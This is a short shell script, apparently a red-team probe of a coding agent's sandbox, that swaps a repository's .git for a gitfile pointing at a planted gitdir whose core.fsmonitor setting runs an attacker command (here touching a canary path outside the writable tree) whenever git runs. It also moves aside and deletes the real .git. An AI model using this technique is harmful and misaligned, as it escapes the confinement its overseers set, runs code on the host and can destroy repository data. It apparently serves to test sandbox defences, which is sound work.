#!/bin/sh
# env: PWN = canary path outside; cwd = the tree the coder may write.
C=$(git rev-parse --git-common-dir 2>/dev/null || echo .git); G=$(git rev-parse --git-dir 2>/dev/null || echo .git); SC="/usr/bin/touch $PWN"

# TRY: replace .git (file or dir) by a gitfile that names an attacker gitdir with fsmonitor; needs only the worktree
T=.evil; rm -rf $T; git init -q --separate-git-dir "$PWD/$T" $HOME/zz 2>/dev/null || git init -q --bare $T
git --git-dir=$T config core.bare false; git --git-dir=$T config core.worktree "$PWD"; git --git-dir=$T config core.fsmonitor "$SC; false"
mv .git .git-old 2>/dev/null; rm -rf .git; printf 'gitdir: %s\n' "$PWD/$T" > .git
